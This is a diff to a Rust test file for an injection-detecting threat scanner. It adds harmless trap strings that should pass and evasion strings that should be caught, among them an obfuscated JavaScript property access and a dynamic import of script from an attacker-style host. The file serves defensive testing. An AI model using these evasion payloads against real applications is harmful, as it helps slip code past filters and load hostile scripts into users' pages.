@@ -181,6 +181,8 @@ fn benign_traps_pass() {
         "execute immediate orders",
         "I <3 u s a",
         "1 + 1 = 2 (a+b)",
+        "I import goods from \"China\": the price (in $) is ok",
+        "import (and perhaps wait around",
     ];
     let s = ThreatScanner::default();
     for t in traps {
@@ -324,6 +326,10 @@ fn known_evasions_are_detected() {
         "procedure analyse (",
         "1234 AS \"foobar\" FROM tablevar2=whatever",
         "ALTER TABLE `mails` CHANGE `receivers` `receivers` ENUM('A','B') CHARACTER SET utf8",
+        "'{\"a\":2,\"c\":[4,5,{\"f\":7}]}' < '$.c[2].f' = 7",
+        "self[\"\\x24\"]",
+        "import { sayHi, sayBye } from \"./greeting.js\";",
+        "import('//evil.example/x.js')",
     ];
     for e in evasions {
         assert!(
